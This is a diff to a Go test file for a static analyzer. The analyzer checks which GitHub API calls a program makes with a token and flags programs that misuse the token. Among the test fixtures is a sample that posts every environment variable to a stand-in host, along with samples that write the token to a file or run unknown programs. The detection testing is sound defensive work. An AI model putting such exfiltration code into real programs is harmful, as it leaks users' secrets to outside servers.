@@ -45,6 +45,7 @@ package main
 
 import (
 	"context"
+	"flag"
 	"fmt"
 	"net/http"
 	"os"
@@ -70,6 +71,9 @@ func goCalls(result Result) []string {
 		}
 		if c.Kind == REST {
 			words = append(words, strings.TrimSuffix(c.Arguments["owner"].String()+"/"+c.Arguments["repo"].String(), "/"))
+		}
+		if c.Kind == REST && c.Open {
+			words = append(words, "open")
 		}
 		if d, ok := c.Arguments["draft"]; ok {
 			words = append(words, "draft="+d.String())
@@ -112,6 +116,10 @@ func main() { connect(need("TOKEN")).Repositories.Get(ctx, "a", "b") }`, []strin
 		{"first of several", `func main() { var t string; for _, n := range []string{"OTHER", "TOKEN"} { if v := os.Getenv(n); v != "" { t = v } }; connect(t).Repositories.Get(ctx, "a", "b") }`, []string{"repos/get a/b"}, ""},
 		{"closure", `func main() { get := func(c *github.Client, repo string) { c.Repositories.Get(ctx, "a", repo) }; get(connect(os.Getenv("TOKEN")), "b") }`, []string{"repos/get a/b"}, ""},
 		{"own request", `func main() { c := connect(os.Getenv("TOKEN")); req, _ := c.NewRequest("PUT", fmt.Sprintf("repos/%s/x/topics", "a"), nil); c.Do(ctx, req, nil) }`, []string{"PUT /repos/a/x/topics"}, ""},
+		{"request written out", `func main() { connect(os.Getenv("TOKEN")).Issues.Edit(ctx, "a", "b", 7, &github.IssueRequest{Body: nil}) }`, []string{"issues/update a/b"}, ""},
+		{"request from elsewhere", `func main() { r := &github.IssueRequest{}; r.State = nil; connect(os.Getenv("TOKEN")).Issues.Edit(ctx, "a", "b", 7, r) }`, []string{"issues/update a/b open"}, ""},
+		{"request without names", `func main() { connect(os.Getenv("TOKEN")).Issues.Edit(ctx, "a", "b", 7, &github.IssueRequest{x, y}) }`, []string{"issues/update a/b open"}, ""},
+		{"operands", `func main() { repo := flag.String("repo", "x", ""); org := flag.String("org", "o", ""); c := connect(os.Getenv("TOKEN")); c.Issues.Create(ctx, os.Args[1], *repo, nil); c.Issues.Create(ctx, *org, os.Args[5], nil) }`, []string{"issues/create a/b", "issues/create o/os.Args[5]"}, ""},
 		{"net/http", `func main() {
 	req, _ := http.NewRequest(http.MethodPost, "https://api.github.com/repos/a/b/dispatches", strings.NewReader("{}"))
 	req.Header.Set("Authorization", "Bearer "+os.Getenv("TOKEN"))
@@ -130,7 +138,7 @@ func main() { each(func(c *github.Client) { c.Issues.Create(ctx, "a", "b", nil) 
 		{"written", `func main() { os.WriteFile("x", []byte(os.Getenv("TOKEN")), 0o600) }`, nil, "hands the token to os.WriteFile"},
 		{"written by Fprintf", `func main() { f, _ := os.Create("x"); fmt.Fprintf(f, "%s", os.Getenv("TOKEN")) }`, nil, "hands the token to fmt.Fprintf"},
 		{"environment", `func main() { for _, kv := range os.Environ() { http.Post("https://acme.example/", "text/plain", strings.NewReader(kv)) } }`, nil, "hands the token to http.Post"},
-		{"computed name", `func main() { fmt.Println(os.Getenv(os.Args[1])) }`, nil, "reads a variable whose name is only known when it runs"},
+		{"computed name", `func main() { fmt.Println(os.Getenv(os.Args[9])) }`, nil, "reads a variable whose name is only known when it runs"},
 		{"name handed on", `func main() { http.Get("TOKEN") }`, nil, "hands the token to http.Get"},
 		{"server of its own", `func main() { c, _ := connect(os.Getenv("TOKEN")).WithEnterpriseURLs(os.Getenv("X"), ""); c.Issues.Create(ctx, "a", "b", nil) }`, []string{"issues/create a/b"}, "calls WithEnterpriseURLs of the client, which is not followed"},
 		{"address changed", `func main() { c := connect(os.Getenv("TOKEN")); c.BaseURL = nil }`, nil, "changes BaseURL of the client"},
@@ -143,7 +151,7 @@ func main() { github.NewClient(&http.Client{Transport: &t{token: os.Getenv("TOKE
 		{"method that nobody calls here", `type job struct{ c *github.Client }
 func (j job) Process() { j.c.Issues.Create(ctx, "a", "b", nil) }
 func main() { http.Handle("/", job{connect(os.Getenv("TOKEN"))}) }`, []string{"issues/create a/b"}, ""},
-		{"unknown program", `func main() { exec.Command(os.Args[1], "x").Run() }`, nil, "starts a program that is not known here"},
+		{"unknown program", `func main() { exec.Command(os.Args[9], "x").Run() }`, nil, "starts a program that is not known here"},
 		{"other folder", `func main() { cmd := exec.Command("git", "push"); cmd.Dir = "/tmp/x"; cmd.Run() }`, []string{"git push"}, "starts a program with another Dir"},
 		{"commands", `func main() { c := connect(os.Getenv("TOKEN")); switch os.Args[1] { case "x": c.Repositories.Delete(ctx, "a", "b") } }`, nil, "picks what it does by its operands"},
 		{"graphql", `func main() { req, _ := http.NewRequest("POST", "https://api.github.com/graphql", nil); req.Header.Set("Authorization", os.Getenv("TOKEN")); http.DefaultClient.Do(req) }`, nil, "asks GraphQL"},
@@ -151,7 +159,9 @@ func main() { http.Handle("/", job{connect(os.Getenv("TOKEN"))}) }`, []string{"i
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
-			result := ReadGo(goInput(goHead+test.source, pythonEnv()))
+			in := goInput(goHead+test.source, pythonEnv())
+			in.Operands = []value.Value{value.Text("a"), value.Text("--repo=b")}
+			result := ReadGo(in)
 			if diff := cmp.Diff(test.want, goCalls(result)); diff != "" {
 				t.Errorf("calls (-want +got):\n%s", diff)
 			}
